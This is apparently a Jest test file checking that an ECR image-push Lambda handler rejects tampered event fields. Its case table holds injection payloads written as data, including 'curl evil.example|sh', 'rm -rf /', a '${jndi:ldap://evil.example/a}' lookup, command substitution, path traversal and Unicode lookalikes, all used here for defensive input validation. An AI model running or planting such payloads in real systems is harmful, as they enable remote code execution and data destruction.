import { ScanCommand } from '@aws-sdk/client-dynamodb';
import { readFileSync } from 'fs';
import { join } from 'path';
import { InvalidEventError } from '../../lambdas/domain/ecr-push-event';
import { parseLineageFile } from '../../lambdas/domain/lineage-file';
import { HandlerDependencies, tableStores } from '../../lambdas/handlers/dependencies';
import { ImagePushedResult, makeImagePushedHandler } from '../../lambdas/handlers/image-pushed';
import { startTestTable } from '../support/dynamodb';

const PUSH_FIXTURE = join(__dirname, '../../../shared/data/events/awsdocs-amazon-ecr-user-guide@8f2dbe92__doc_source__ecr-eventbridge.md__ecr-image-action-PUSH.json');
const LINEAGE_FILE = join(__dirname, '../../examples/lineage.yaml');
const DIGEST = `sha256:${'4f'.repeat(32)}`;
const TEN_KB = 10 * 1024;

type PushEvent = { account: string; region: string; id: string; detail: Record<string, string> };

/** The documented ECR push, pointed at an image of the example lineage that has children (so a valid push acts). */
function pushEvent(): PushEvent {
  const event = structuredClone(JSON.parse(readFileSync(PUSH_FIXTURE, 'utf8'))) as PushEvent;
  event.detail['repository-name'] = 'enterprise/python-311';
  event.detail['image-digest'] = DIGEST; // the documented sample digest is 60 hex digits, itself refused
  return event;
}

describe('Function: makeImagePushedHandler', () => {
  describe('untrusted event fields', () => {
    let table: Awaited<ReturnType<typeof startTestTable>>;
    let handler: (event: unknown) => Promise<ImagePushedResult>;
    const callbacks: string[] = [];

    beforeAll(async () => {
      table = await startTestTable('patchline-injection');
      const { client, tableName } = table;
      const deps: HandlerDependencies = {
        ...tableStores({ client, tableName, concurrency: 2 }),
        taskTokens: {
          succeed: async (token) => (callbacks.push(token), true),
          fail: async (token) => (callbacks.push(token), true),
        },
        defaultBuildSeconds: 600,
        now: () => new Date('2026-03-01T12:00:00Z'),
      };
      await deps.lineage.putImages(parseLineageFile(LINEAGE_FILE, readFileSync(LINEAGE_FILE, 'utf8')));
      handler = makeImagePushedHandler(deps);
    });
    afterAll(async () => {
      await table.stop();
    });

    /** Every item of the table, in a stable order: what "nothing stored" is checked against. */
    const snapshot = async (): Promise<string[]> => {
      const items: string[] = [];
      let start: Record<string, unknown> | undefined;
      do {
        const page = await table.client.send(new ScanCommand({ TableName: table.tableName, ExclusiveStartKey: start as never }));
        items.push(...(page.Items ?? []).map((i) => JSON.stringify(i)));
        start = page.LastEvaluatedKey;
      } while (start);
      return items.sort();
    };

    const cases: Array<[string, (e: PushEvent) => void, string]> = [
      ['a shell command in the repository name', (e) => (e.detail['repository-name'] = 'enterprise/python-311;curl evil.example|sh'), 'detail.repository-name'],
      ['command substitution in the repository name', (e) => (e.detail['repository-name'] = 'enterprise/$(id)'), 'detail.repository-name'],
      ['a newline in the repository name', (e) => (e.detail['repository-name'] = 'enterprise/python-311\nIMG#apps/payments-api'), 'detail.repository-name'],
      ['${} interpolation in the repository name', (e) => (e.detail['repository-name'] = '${jndi:ldap://evil.example/a}'), 'detail.repository-name'],
      ['JSON-breaking quotes in the repository name', (e) => (e.detail['repository-name'] = 'enterprise/python-311"},{"Name":"BASE_IMAGE'), 'detail.repository-name'],
      ['a path traversal in the repository name', (e) => (e.detail['repository-name'] = '../../enterprise/python-311'), 'detail.repository-name'],
      ['a Cyrillic lookalike in the repository name', (e) => (e.detail['repository-name'] = 'enterprise/pyth\u043En-311'), 'detail.repository-name'],
      ['a fullwidth lookalike in the repository name', (e) => (e.detail['repository-name'] = '\uFF45nterprise/python-311'), 'detail.repository-name'],
      ['a 10 KB repository name', (e) => (e.detail['repository-name'] = 'a'.repeat(TEN_KB)), 'detail.repository-name'],
      ['a shell command in the tag', (e) => (e.detail['image-tag'] = '1.0;rm -rf /'), 'detail.image-tag'],
      ['backticks in the tag', (e) => (e.detail['image-tag'] = '`id`'), 'detail.image-tag'],
      ['a newline in the tag', (e) => (e.detail['image-tag'] = 'latest\nBASE_IMAGE=evil.example/x'), 'detail.image-tag'],
      ['${} interpolation in the tag', (e) => (e.detail['image-tag'] = '${BASE_IMAGE}'), 'detail.image-tag'],
      ['JSON-breaking quotes in the tag', (e) => (e.detail['image-tag'] = 'v1"}],"x":[{"'), 'detail.image-tag'],
      ['a 10 KB tag', (e) => (e.detail['image-tag'] = 'v'.repeat(TEN_KB)), 'detail.image-tag'],
      ['a tag that reads as a command-line option', (e) => (e.detail['image-tag'] = '-rf'), 'detail.image-tag'],
      ['a Cyrillic lookalike in the tag', (e) => (e.detail['image-tag'] = 'l\u0430test'), 'detail.image-tag'],
      ['a right-to-left override in the tag', (e) => (e.detail['image-tag'] = 'v1\u202Egnp'), 'detail.image-tag'],
      ['a NUL byte in the tag', (e) => (e.detail['image-tag'] = 'v1\u0000'), 'detail.image-tag'],
      ['a digest with a shell suffix', (e) => (e.detail['image-digest'] = `${DIGEST};id`), 'detail.image-digest'],
      ['a digest with a newline', (e) => (e.detail['image-digest'] = `${DIGEST}\n`), 'detail.image-digest'],
      ['a digest with ${}', (e) => (e.detail['image-digest'] = 'sha256:${DIGEST}'), 'detail.image-digest'],
      ['a digest with fullwidth hex digits', (e) => (e.detail['image-digest'] = `sha256:${'\uFF14f'.repeat(32)}`), 'detail.image-digest'],
      ['a 10 KB digest', (e) => (e.detail['image-digest'] = `sha256:${'a'.repeat(TEN_KB)}`), 'detail.image-digest'],
      ['a command in the account (it forms the BASE_IMAGE registry)', (e) => (e.account = '123456789012;id'), 'account'],
      ['a host in the region (it forms the BASE_IMAGE registry)', (e) => (e.region = 'us-east-1.evil.example/x'), 'region'],
      ['a 10 KB event id', (e) => (e.id = 'x'.repeat(TEN_KB)), 'id'],
    ];

    it.each(cases)('refuses %s with InvalidEventError and stores nothing', async (_what, tamper, field) => {
      const event = pushEvent();
      tamper(event);
      const before = await snapshot();
      const error = await handler(event).then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(error).toBeInstanceOf(InvalidEventError);
      const { code, message } = error as InvalidEventError;
      expect(code).toBe('INVALID_EVENT');
      // Clear: names the field; safe to log: one line, bounded, the value JSON-quoted and truncated.
      expect(message).toContain(`${field}: `);
      expect(message).not.toMatch(/[\n\r\u0000]/);
      expect(message.length).toBeLessThan(600);
      expect(await snapshot()).toEqual(before);
      expect(callbacks).toEqual([]);
    });

    it('accepts the untampered event, so the refusals above are about the tampering (control)', async () => {
      const before = await snapshot();
      const result = await handler(pushEvent());
      expect(result.image).toBe('enterprise/python-311');
      expect(result.starts.map((s) => s.input.image).sort()).toEqual(['apps/orders-api', 'apps/payments-api', 'builders/python-ci']);
      // What reaches the CodeBuild override and the execution name is built only from validated parts.
      for (const start of result.starts) {
        expect(start.name).toMatch(/^[A-Za-z0-9_-]{1,80}$/);
        expect(start.input.baseImage).toBe(`123456789012.dkr.ecr.us-west-2.amazonaws.com/enterprise/python-311@${DIGEST}`);
      }
      expect((await snapshot()).length).toBeGreaterThan(before.length);
    });
  });
});
